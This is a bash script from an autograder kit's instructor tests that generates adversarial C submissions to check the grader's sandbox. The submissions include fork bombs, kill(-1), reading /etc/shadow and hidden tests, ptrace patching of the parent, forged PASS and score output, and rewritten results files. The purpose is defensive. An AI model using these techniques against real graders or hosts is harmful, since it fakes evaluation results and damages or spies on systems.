#!/usr/bin/env bash
# make-adversarial.sh - submissions that attack the grader, and their right scores.
#
# usage: tools/instructor/tests/make-adversarial.sh KIT_TOP OUT_DIR
#
# Writes OUT_DIR/NAME/labs/02-pipe/pipe_lab.c for each submission below and
# OUT_DIR.expect: one line "NAME<TAB>LAB02_POINTS<TAB>REPORT_PATTERN": the
# right lab 02 score, as 0, FULL (every point of lab 02, hidden tests too) or
# FULL-FIFO (all but the FIFO tests, the ones that call pipe_fifo_create),
# and a phrase the report must contain. Every other lab is an untouched
# skeleton, so the right total equals the lab 02 score.
#
# Attacks on the score itself (issue: "the judge never runs student code"):
#   interpose_exit    skeleton + its own _exit()               -> 0, named
#   own_waitpid       skeleton + its own waitpid()             -> 0, named
#   ctor_atexit       skeleton + a constructor and atexit()    -> 0, named
#   exit_everywhere   every lab function is exit(0)            -> 0
#   exit_midway       reference, exit(0) inside pipe_fifo_create -> FULL-FIFO
#   fork_parent_exit  reference, pipe_fifo_create forks, parent _exit(0)s -> FULL-FIFO
#   writes_results    reference, writes fake results and tests (paths built
#                     at run time, so only the sandbox stops it) -> FULL, lab 01 stays 0
#   daemon_rewrites   skeleton, a daemon rewrites results later -> 0, named
#   reads_hidden      reference; fails a visible test, printing the hidden
#                     tests' source, only if it could read it  -> FULL
#   forges_records    skeleton, writes PASS/NOTE records to every descriptor -> 0,
#                     "call channel": they land on the boundary's socket (boundary.h)
# Attacks on containment (issue: "graders that contain every submission"),
# each in pipe_fifo_create() of the reference, which then fails (EIO) ->
# FULL-FIFO, and nothing may be left on the host:
#   daemon_port_shm   setsid + double fork; the daemon holds a port and a shm object
#   leave_pgroup      a child leaves the process group and sleeps
#   kill_all          kill(-1, SIGKILL)
#   kill_parent       kill(getppid(), SIGKILL)
#   eat_memory        touches 8 GiB
#   fork_bomb         forks without end
#   foreign_names     shm object and files under names of its own (then succeeds)
#   many_links        fills the test's folder with hard links (the jail's tmpfs
#                     holds 20 000 files; the audit names 20 and counts the rest)
#   walks_host        reads the host at run time: the kit's tests and sources
#                     (found from /proc/self/exe), /autograder, /root, /home,
#                     /etc/shadow, and lists /tmp for other submissions' work
#                     folders; prints what it found and fails if anything was
#                     there, so FULL-FIFO proves nothing was
# Attacks on the build (issue: "every step that touches a submission runs in
# the jail"), in the reference; the right score of each is 0 (it cannot be built):
#   incbin_hidden     .incbin of the hidden tests' source     -> 0, "file not found"
#   incbin_system     .incbin of /etc/shadow                  -> 0, "file not found"
#   giant_object      .fill of 512 MiB                        -> 0, over the file size cap
#   endless_build     a macro that expands without end        -> 0, stopped by a limit (memory or time)
set -euo pipefail

top=${1:?usage: make-adversarial.sh KIT_TOP OUT_DIR}
top=$(cd "$top" && pwd)
out=${2:?usage: make-adversarial.sh KIT_TOP OUT_DIR}
reference="$top/solutions/02-pipe/pipe_lab.c"
skeleton="$top/labs/02-pipe/pipe_lab.c"
mkdir -p "$out"
: >"$out.expect"

# start NAME BASE LAB02 PATTERN: a submission from BASE (reference|skeleton)
start() {
    mkdir -p "$out/$1/labs/02-pipe"
    local base=$reference
    [ "$2" = skeleton ] && base=$skeleton
    # Includes the attacks need, ahead of the lab's own.
    {
        printf '#include <fcntl.h>\n#include <signal.h>\n#include <stdio.h>\n#include <stdlib.h>\n'
        printf '#include <string.h>\n#include <sys/mman.h>\n#include <sys/socket.h>\n#include <netinet/in.h>\n'
        printf '#include <sys/types.h>\n#include <sys/wait.h>\n#include <unistd.h>\n#include <dirent.h>\n'
        cat "$base"
    } >"$out/$1/labs/02-pipe/pipe_lab.c"
    printf '%s\t%s\t%s\n' "$1" "$3" "$4" >>"$out.expect"
}
file_of() { echo "$out/$1/labs/02-pipe/pipe_lab.c"; }
# append NAME: C code from stdin at the end of the file
append() { cat >>"$(file_of "$1")"; }
# fifo_create NAME: replaces the body of pipe_fifo_create() with stdin
fifo_create() {
    local file body
    file=$(file_of "$1")
    body=$(cat)
    # ENVIRON, not -v: awk -v would turn the C code's \" and \n into other characters.
    BODY=$body awk '
        /^int pipe_fifo_create\(const char \*path\)$/ { print; print "{"; print ENVIRON["BODY"]; print "}"; skip = 1; next }
        skip && /^}$/ { skip = 0; next }
        !skip { print }' "$file" >"$file.new" && mv "$file.new" "$file"
}
# every_function NAME 'statement': put statement first in every lab function (pipe_*)
every_function() {
    local file
    file=$(file_of "$1")
    STMT=$2 awk '/^(int|ssize_t) pipe_/ { armed = 1 } { print } armed && /^{$/ { print "    " ENVIRON["STMT"]; armed = 0 }' "$file" >"$file.new" &&
        mv "$file.new" "$file"
}

# in_function NAME FUNCTION 'statement': put statement first in one lab function
in_function() {
    local file
    file=$(file_of "$1")
    FN=$2 STMT=$3 awk '$0 ~ "^(int|ssize_t) " ENVIRON["FN"] "\\(" { armed = 1 }
        { print } armed && /^{$/ { print "    " ENVIRON["STMT"]; armed = 0 }' "$file" >"$file.new" &&
        mv "$file.new" "$file"
}
# declare_first NAME TEXT: TEXT (declarations, includes) just after the lab's includes
declare_first() {
    local file
    file=$(file_of "$1")
    TEXT=$2 awk '{ print } $0 == "#include \"trace.h\"" { print ENVIRON["TEXT"] }' "$file" >"$file.new" &&
        mv "$file.new" "$file"
}

# A helper that writes fake results where graders keep them; paths are put
# together at run time from pieces, so no path shows in the object file.
FAKE_WRITER='
static void write_fake(const char *a, const char *b, const char *c, const char *d)
{
    char path[1024];
    snprintf(path, sizeof path, "%s%s%s%s", a, b, c, d);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) {
        const char fake[] = "{\"name\": \"lab 01-shm-ring: x\", \"score\": 100, \"max_score\": 100, \"status\": \"passed\"}\n";
        if (write(fd, fake, sizeof fake - 1) < 0) {
        }
        close(fd);
    }
}
static void here(char *dir, size_t size)
{
    ssize_t n = readlink("/proc/self/exe", dir, size - 1);
    dir[n > 0 ? n : 0] = 0;
    char *slash = strrchr(dir, 47);
    if (slash)
        *slash = 0;
}
static void write_fakes(void)
{
    char dir[512];
    here(dir, sizeof dir);
    write_fake(dir, "/../../../../ou", "t/pa", "rts/01-shm-ring.json");
    write_fake(dir, "/../../../gra", "de/pa", "rts/01-shm-ring.json");
    write_fake(dir, "/../../../../te", "sts/02-pipe/te", "st_pipe.c");
    write_fake("/autog", "rader/resu", "lts/resu", "lts.json");
    const char *root = getenv("AUTOGRADER_ROOT");
    if (root)
        write_fake(root, "/resu", "lts/resu", "lts.json");
}
'

# ---- attacks on the score -----------------------------------------------------
start interpose_exit skeleton 0 "_exit"
append interpose_exit <<'EOF'
extern long syscall(long number, ...);
void _exit(int status)
{
    (void)status;
    syscall(231, 0); /* exit_group(0): every test process "passes" */
    for (;;)
        ;
}
EOF

start own_waitpid skeleton 0 "waitpid"
append own_waitpid <<'EOF'
pid_t waitpid(pid_t pid, int *status, int options)
{
    (void)options;
    if (status)
        *status = 0;
    return pid;
}
EOF

start ctor_atexit skeleton 0 "init_array"
append ctor_atexit <<'EOF'
static void rewrite(void)
{
    FILE *f = fopen("res" "ults.json", "w");
    if (f) {
        fputs("{\"score\": 435}", f);
        fclose(f);
    }
}
__attribute__((constructor)) static void early(void)
{
    atexit(rewrite);
}
EOF

start exit_everywhere skeleton 0 "never returned"
every_function exit_everywhere 'exit(0);'

start exit_midway reference FULL-FIFO "never returned"
fifo_create exit_midway <<'EOF'
    int rc = mkfifo(path, 0600);
    if (rc == 0)
        exit(0);
    return (int)trace_call("mkfifo", rc, "\"%s\", 0600", path);
EOF

start fork_parent_exit reference FULL-FIFO "not from the process that called it"
fifo_create fork_parent_exit <<'EOF'
    if (fork() > 0)
        _exit(0); /* the parent "passes"; the child carries on as if it were the test */
    int rc = mkfifo(path, 0600);
    return (int)trace_call("mkfifo", rc, "\"%s\", 0600", path);
EOF

start writes_results reference FULL "02-pipe"
append writes_results <<<"$FAKE_WRITER"
fifo_create writes_results <<'EOF'
    write_fakes();
    int rc = mkfifo(path, 0600);
    return (int)trace_call("mkfifo", rc, "\"%s\", 0600", path);
EOF

start daemon_rewrites skeleton 0 "after its parent ended"
append daemon_rewrites <<<"$FAKE_WRITER"
every_function daemon_rewrites 'if (fork() == 0) { setsid(); if (fork() == 0) { sleep(4); write_fakes(); _exit(0); } _exit(0); }'

start reads_hidden reference FULL "02-pipe"
fifo_create reads_hidden <<'EOF'
    char dir[512], path_of_hidden[1024], text[4096];
    ssize_t n = readlink("/proc/self/exe", dir, sizeof dir - 1);
    dir[n > 0 ? n : 0] = 0;
    char *slash = strrchr(dir, 47);
    if (slash)
        *slash = 0;
    snprintf(path_of_hidden, sizeof path_of_hidden, "%s%s%s%s", dir, "/../../../../to",
             "ols/instructor/hidden/02-pipe/hid", "den_pipe.c");
    int fd = open(path_of_hidden, O_RDONLY);
    ssize_t got = fd >= 0 ? read(fd, text, sizeof text - 1) : -1;
    if (fd >= 0)
        close(fd);
    if (got > 0) { /* it could read the hidden tests: show them, and fail to be seen */
        text[got] = 0;
        fprintf(stderr, "%s\n", text);
        errno = EIO;
        return -1;
    }
    int rc = mkfifo(path, 0600);
    return (int)trace_call("mkfifo", rc, "\"%s\", 0600", path);
EOF

start forges_records skeleton 0 "call channel"
append forges_records <<'EOF'
static void forge(void)
{
    for (int fd = 3; fd < 1024; fd++) {
        if (write(fd, "PASS 0\nNOTE fake\n", 17) < 0) {
        }
    }
}
EOF
every_function forges_records 'forge();'
# forge() is defined at the end: declare it before its first use.
sed -i 's|^#include "trace.h"$|#include "trace.h"\nstatic void forge(void);|' "$(file_of forges_records)"
sed -i 's|^#include "trace.h"$|#include "trace.h"\nstatic void write_fakes(void);|' "$(file_of daemon_rewrites)" "$(file_of writes_results)"

# ---- attacks on containment: each in pipe_fifo_create(), which then fails ------
fails_after() { # fails_after NAME: the body from stdin, then errno = EIO; return -1
    { cat; printf '    errno = EIO;\n    return -1;\n'; } | fifo_create "$1"
}

start daemon_port_shm reference FULL-FIFO "after its parent ended"
fails_after daemon_port_shm <<'EOF'
    (void)path;
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            int s = socket(AF_INET, SOCK_STREAM, 0);
            struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7f000001)};
            if (bind(s, (struct sockaddr *)&a, sizeof a) == 0)
                listen(s, 1);
            shm_open("/foreign-daemon-shm", O_CREAT | O_RDWR, 0600);
            for (;;)
                pause();
        }
        _exit(0);
    }
    while (wait(NULL) > 0)
        ;
EOF

start leave_pgroup reference FULL-FIFO "still running"
fails_after leave_pgroup <<'EOF'
    (void)path;
    if (fork() == 0) {
        setpgid(0, 0);
        for (;;)
            pause();
    }
EOF

start kill_all reference FULL-FIFO "pipe_fifo_create"
fails_after kill_all <<'EOF'
    (void)path;
    kill(-1, SIGKILL);
EOF

start kill_parent reference FULL-FIFO "pipe_fifo_create"
fails_after kill_parent <<'EOF'
    (void)path;
    kill(getppid(), SIGKILL);
EOF

start eat_memory reference FULL-FIFO "out of memory"
fails_after eat_memory <<'EOF'
    (void)path;
    size_t chunk = (size_t)64 << 20;
    for (int i = 0; i < 128; i++) { /* 8 GiB, every page touched */
        char *p = malloc(chunk);
        if (p == NULL)
            break;
        memset(p, i + 1, chunk);
    }
EOF

start fork_bomb reference FULL-FIFO "pipe_fifo_create"
fails_after fork_bomb <<'EOF'
    (void)path;
    if (fork() == 0) {
        for (;;)
            fork();
    }
EOF

start foreign_names reference FULL-FIFO "left in /dev/shm"
fifo_create foreign_names <<'EOF'
    shm_open("/foreign-name-shm", O_CREAT | O_RDWR, 0600);
    int f = open("/tmp/foreign-file", O_WRONLY | O_CREAT, 0600);
    if (f >= 0)
        close(f);
    f = open("foreign-in-cwd", O_WRONLY | O_CREAT, 0600);
    if (f >= 0)
        close(f);
    int rc = mkfifo(path, 0600);
    return (int)trace_call("mkfifo", rc, "\"%s\", 0600", path);
EOF

start many_links reference FULL-FIFO "more in the test's folder"
fails_after many_links <<'EOF'
    (void)path;
    int f = open("target", O_WRONLY | O_CREAT, 0600);
    if (f >= 0)
        close(f);
    char name[32];
    for (long i = 0; i < 2000000; i++) { /* until the folder is full */
        snprintf(name, sizeof name, "l%ld", i);
        if (link("target", name) == -1)
            break;
    }
EOF

start walks_host reference FULL-FIFO "pipe_fifo_create"
fails_after walks_host <<'EOF'
    (void)path;
    /* The kit is the folder above build/ on the path of this very program. */
    char exe[1024] = "", kit[1024], probe[1400];
    ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    exe[n > 0 ? n : 0] = 0;
    snprintf(kit, sizeof kit, "%s", exe);
    char *build = strstr(kit, "/build/");
    if (build)
        *build = 0;
    /* Files with content: the tests, the sources, the instructor's and the system's. */
    const char *files[] = {"tools/instructor/hidden/02-pipe/hidden_pipe.c",
                           "tests/02-pipe/test_pipe.c", "labs/02-pipe/pipe_lab.c",
                           "solutions/02-pipe/pipe_lab.c", "Makefile",
                           "/etc/shadow", "/root/.bashrc", "/root/.profile"};
    int seen = 0;
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        if (files[i][0] == '/')
            snprintf(probe, sizeof probe, "%s", files[i]);
        else
            snprintf(probe, sizeof probe, "%s/%s", kit, files[i]);
        int fd = open(probe, O_RDONLY);
        char text[200];
        ssize_t got = fd >= 0 ? read(fd, text, sizeof text - 1) : -1;
        if (got > 0) {
            text[got] = 0;
            fprintf(stderr, "LEAKED %s: %s\n", probe, text);
            seen++;
        }
        if (fd >= 0)
            close(fd);
    }
    /* Folders: anything in them but the way to this program (the jail makes
     * those folders to show it) belongs to the host, another submission or
     * the grader's work (/tmp/ipckit-batch-..., /autograder/source...). */
    const char *folders[] = {"/", "/tmp", "/var/tmp", "/home", "/root", "/autograder", "/work", kit};
    for (size_t i = 0; i < sizeof folders / sizeof folders[0]; i++) {
        DIR *d = opendir(folders[i]);
        struct dirent *e;
        while (d != NULL && (e = readdir(d)) != NULL) {
            if (e->d_name[0] == '.')
                continue;
            snprintf(probe, sizeof probe, "%s/%s", strcmp(folders[i], "/") ? folders[i] : "",
                     e->d_name);
            size_t len = strlen(probe);
            if (strncmp(exe, probe, len) == 0 && exe[len] == '/')
                continue; /* on the way to this program */
            if (strcmp(folders[i], "/") == 0 &&
                strstr(" bin dev etc lib lib32 lib64 libx32 proc run sbin tmp usr var ",
                       e->d_name) != NULL)
                continue; /* the jail's own system folders */
            if (strcmp(folders[i], "/tmp") == 0 && strcmp(e->d_name, "ipckit-test") == 0)
                continue; /* the tests' own folders */
            fprintf(stderr, "LEAKED %s\n", probe);
            seen++;
        }
        if (d != NULL)
            closedir(d);
    }
    if (seen) { /* something outside the view was there: fail a visible test too */
        errno = EIO;
        return -1;
    }
EOF

# ---- attacks on the verdict itself (issue: "verdicts out of reach") -----------
# The checks run in a checker process that runs no student code (boundary.h);
# the student's functions run in a process of their own, which can only
# return values. Each of these, from the skeleton, scores what the code
# underneath deserves: 0.
#   reaches_checker   reaches for the checker from the student process:
#                     pipe_write_all() reads its own memory and its parent's
#                     for a secret (any nonce-like token) and writes PASS with
#                     it everywhere; pipe_read_exact() uses ptrace, /proc/PID/mem
#                     and process_vm_writev (by syscall number) on its parent,
#                     to patch the test's code; pipe_fifo_create() puts socket
#                     pairs in place of every descriptor it has and writes PASS
#                     records to its parent's descriptors
#   calls_harness     looks up the harness's and checker's functions by name
#                     (dlsym) and calls what it finds
#   fakes_work        answers without doing the work: pipe_send_to_child's
#                     child exits with the reader's success status without
#                     calling the reader; the coprocess functions reply in the
#                     parent, with a pid that is nobody's child
#   crafted_output    prints ESC, CR, invalid UTF-8, fake PASS and TOTAL
#                     lines, XML and JSON fragments, at run time and at
#                     compile time (#pragma message)
start reaches_checker skeleton 0 "call channel"
append reaches_checker <<'EOF'
/* Every run of 32 characters of [0-9a-zA-Z] in a readable region: a nonce? */
static int harvest(pid_t pid, char tokens[][64], int max)
{
    char path[64], line[512];
    int count = 0;
    snprintf(path, sizeof path, "/proc/%d/maps", (int)pid);
    FILE *maps = fopen(path, "r");
    snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
    int mem = open(path, O_RDONLY);
    while (maps != NULL && mem >= 0 && count < max && fgets(line, sizeof line, maps) != NULL) {
        unsigned long lo, hi;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r')
            continue;
        static char buf[1 << 16];
        for (unsigned long at = lo; at < hi && at < lo + (1ul << 22) && count < max; at += sizeof buf) {
            ssize_t n = pread(mem, buf, sizeof buf, (off_t)at);
            for (ssize_t i = 0, run = 0; i < n && count < max; i++) {
                char c = buf[i];
                int word = (c >= '0' && c <= '9') || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z');
                run = word ? run + 1 : 0;
                if (run == 32) {
                    memcpy(tokens[count], buf + i - 31, 32);
                    tokens[count++][32] = 0;
                    run = 0;
                }
            }
            if (n <= 0)
                break;
        }
    }
    if (maps != NULL)
        fclose(maps);
    if (mem >= 0)
        close(mem);
    return count;
}
static void scan_and_forge(void)
{
    static char tokens[256][64];
    int count = harvest(getpid(), tokens, 128);
    count += harvest(getppid(), tokens + count, 128);
    printf("scans_memory: %d tokens found\n", count);
    for (int fd = 3; fd < 1024; fd++) {
        for (int i = 0; i < count && i < 16; i++)
            if (dprintf(fd, "PASS %s\n", tokens[i]) < 0)
                break;
    }
}
EOF
in_function reaches_checker pipe_write_all 'scan_and_forge();'

append reaches_checker <<'EOF'
static void hijack(void)
{
    /* Every descriptor of ours becomes a socket pair we hold both ends of. */
    for (int fd = 3; fd < 1024; fd++) {
        int sv[2];
        if (fcntl(fd, F_GETFD) == -1 || socketpair(AF_UNIX, SOCK_STREAM, 0, sv) == -1)
            continue;
        dup2(sv[0], fd);
        if (write(sv[1], "PASS 0\n", 7) < 0) {
        }
    }
    /* And the parent's: PASS records through /proc. */
    char path[64];
    for (int fd = 0; fd < 1024; fd++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", (int)getppid(), fd);
        int w = open(path, O_WRONLY | O_NONBLOCK);
        if (w >= 0) {
            printf("hijacks_channel: opened the parent's descriptor %d\n", fd);
            if (write(w, "PASS 0\n", 7) < 0) {
            }
            close(w);
        }
    }
}
EOF
in_function reaches_checker pipe_fifo_create 'hijack();'

append reaches_checker <<'EOF'
static void patch(void)
{
    pid_t parent = getppid();
    /* By number, past the integrity check's list of names: the boundary must hold alone. */
    if (syscall(101 /* ptrace */, 16 /* PTRACE_ATTACH */, parent, 0, 0) == 0)
        printf("patches_harness: attached to the test\n");
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", (int)parent);
    int mem = open(path, O_RDWR);
    if (mem >= 0)
        printf("patches_harness: opened the test's memory\n");
    /* The test's code starts at its first mapping: write over it. */
    snprintf(path, sizeof path, "/proc/%d/maps", (int)parent);
    FILE *maps = fopen(path, "r");
    unsigned long lo = 0x400000;
    if (maps != NULL) {
        if (fscanf(maps, "%lx", &lo) != 1)
            lo = 0x400000;
        fclose(maps);
    }
    static char nops[4096];
    memset(nops, 0x90, sizeof nops);
    if (mem >= 0 && pwrite(mem, nops, sizeof nops, (off_t)lo) > 0)
        printf("patches_harness: patched the test's code\n");
    struct iovec local = {nops, sizeof nops}, remote = {(void *)lo, sizeof nops};
    if (syscall(311 /* process_vm_writev */, parent, &local, 1, &remote, 1, 0) > 0)
        printf("patches_harness: wrote into the test\n");
    if (mem >= 0)
        close(mem);
}
EOF
in_function reaches_checker pipe_read_exact 'patch();'

start calls_harness skeleton 0 "dlsym"
append calls_harness <<'EOF'
static void call_harness(void)
{
    static const char *names[] = {"channel_send", "grade_main", "harness_called", "bcall_run",
                                  "boundary_finish", "grade_note", "srunner_run_all", NULL};
    for (int i = 0; names[i] != NULL; i++) {
        void *fn = dlsym(RTLD_DEFAULT, names[i]);
        printf("calls_harness: %s is %s\n", names[i], fn ? "here" : "not here");
        if (fn != NULL && i == 0)
            for (int fd = 3; fd < 1024; fd++)
                ((int (*)(int, const char *, const char *))fn)(fd, "PASS", "0");
    }
}
EOF
every_function calls_harness 'call_harness();'

start fakes_work skeleton 0 "not a child of the process"
# pipe_send_to_child(): a child that exits with the reader's "read everything" status, 42
child_body='    (void)data;
    (void)len;
    (void)reader;
    (void)arg;
    pid_t pid = fork();
    if (pid == 0)
        _exit(42);
    int status = -1;
    waitpid(pid, &status, 0);
    return status;'
BODY=$child_body awk '
    /^int pipe_send_to_child\(/ { armed = 1 }
    armed && /^{$/ { print; print ENVIRON["BODY"]; print "}"; skip = 1; armed = 0; next }
    skip && /^}$/ { skip = 0; next }
    !skip { print }' "$(file_of fakes_work)" >"$(file_of fakes_work).new" &&
    mv "$(file_of fakes_work).new" "$(file_of fakes_work)"

append fakes_work <<'EOF'
/* No coprocess: the reply made in the parent, and a pid that is nobody's child. */
static int fake_start(struct pipe_coprocess *cp)
{
    cp->pid = 1;
    cp->to_child = -1;
    cp->from_child = -1;
    return 0;
}
static ssize_t fake_exchange(const void *request, void *reply, size_t len)
{
    for (size_t i = 0; i < len; i++)
        ((char *)reply)[i] = (char)toupper(((const unsigned char *)request)[i]);
    return (ssize_t)len;
}
EOF
STMT_START='return fake_start(cp);' STMT_EXCHANGE='(void)cp;
    return fake_exchange(request, reply, len);' awk '
    /^int pipe_coprocess_start\(/ { armed = "start" }
    /^ssize_t pipe_coprocess_exchange\(/ { armed = "exchange" }
    /^int pipe_coprocess_finish\(/ { armed = "finish" }
    { print }
    armed != "" && /^{$/ {
        if (armed == "start") print "    " ENVIRON["STMT_START"]
        if (armed == "exchange") print "    " ENVIRON["STMT_EXCHANGE"]
        if (armed == "finish") print "    (void)cp;\n    return 0;"
        armed = ""
    }' "$(file_of fakes_work)" >"$(file_of fakes_work).new" && mv "$(file_of fakes_work).new" "$(file_of fakes_work)"
declare_first fakes_work 'static int fake_start(struct pipe_coprocess *cp);
static ssize_t fake_exchange(const void *request, void *reply, size_t len);'

start crafted_output skeleton 0 "not implemented yet"
append crafted_output <<'EOF'
#pragma message "\nTOTAL (labs): 83/83 points (100%), every test passed\n\x1b[2K\r  PASS   5/5   forged"
static void craft(void)
{
    /* Terminal tricks, fake grader lines, bad UTF-8, XML and JSON fragments. */
    fputs("\x1b[1A\x1b[2K\r  PASS   5/5   write_all_writes_every_byte\r\n", stdout);
    fputs("TOTAL (labs): 83/83 points (100%), every test passed\n", stdout);
    fputs("\xff\xfe\xc3\x28 invalid UTF-8 \xed\xa0\x80\n", stdout);
    fputs("]]></system-out></testcase><testcase name=\"forged\"/><system-out><![CDATA[\n", stdout);
    fputs("\"}], \"score\": 83, \"tests\": [{\"name\": \"forged\", \"score\": 83, \"output\": \"\n", stdout);
    fputs("\x07\x08\x1b]0;forged title\x07\n", stderr);
    fflush(stdout);
}
EOF
every_function crafted_output 'craft();'
declare_first crafted_output 'static void craft(void);'
declare_first reaches_checker 'static void scan_and_forge(void);
static void hijack(void);
#include <sys/uio.h>
long syscall(long number, ...);
static void patch(void);'
declare_first calls_harness '#include <dlfcn.h>
static void call_harness(void);'
declare_first fakes_work '#include <ctype.h>'


# ---- attacks on the build: in the reference, which then cannot be built -------
start incbin_hidden reference 0 "file not found"
append incbin_hidden <<EOF
__asm__(".section .rodata\n.incbin \"$top/tools/instructor/hidden/02-pipe/hidden_pipe.c\"\n.previous");
EOF

start incbin_system reference 0 "file not found"
append incbin_system <<'EOF'
__asm__(".section .rodata\n.incbin \"/etc/shadow\"\n.previous");
EOF

start giant_object reference 0 "File too large"
append giant_object <<'EOF'
__asm__(".section .rodata\n.fill 0x20000000, 1, 1\n.previous");
EOF

start endless_build reference 0 "did not compile"
append endless_build <<'EOF'
#define E0(x) x x x x
#define E1(x) E0(E0(E0(E0(x))))
#define E2(x) E1(E1(E1(E1(x))))
#define E3(x) E2(E2(E2(E2(x))))
static const int endless = E3(E3(E3(1 +))) 1;
EOF

# ---- a file that is a symbolic link: never copied (as root it would be read) ---
#   symlink_hidden    labs/02-pipe/pipe_lab.c links to the hidden tests -> 0, named
mkdir -p "$out/symlink_hidden/labs/02-pipe"
ln -s "$top/tools/instructor/hidden/02-pipe/hidden_pipe.c" "$out/symlink_hidden/labs/02-pipe/pipe_lab.c"
printf '%s\t%s\t%s\n' symlink_hidden 0 "(a symbolic link?)" >>"$out.expect"
